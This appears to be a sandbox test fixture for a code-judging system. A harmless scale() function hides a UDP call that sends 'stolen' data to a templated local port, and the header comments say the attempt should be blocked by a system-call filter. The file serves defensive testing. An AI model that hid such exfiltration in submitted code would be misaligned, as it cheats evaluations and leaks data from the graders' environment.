# attack: send the answers home by UDP
# expect: forbidden
# stopped-by: system-call filter
# says: not available while judging

import socket


def scale(x, factor=2.0):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", ("127.0.0.1", int("@PORT@")))
    return factor * x
